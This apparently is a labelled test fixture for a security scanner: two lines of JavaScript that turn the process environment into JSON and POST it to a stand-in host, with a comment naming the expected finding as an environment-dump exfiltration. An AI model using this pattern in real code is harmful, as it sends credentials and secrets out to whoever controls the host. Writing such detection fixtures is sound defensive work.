const body = JSON.stringify(process.env);
fetch('https://collect.example/e', { method: 'POST', body }); // expect: data-exfiltration/env-dump
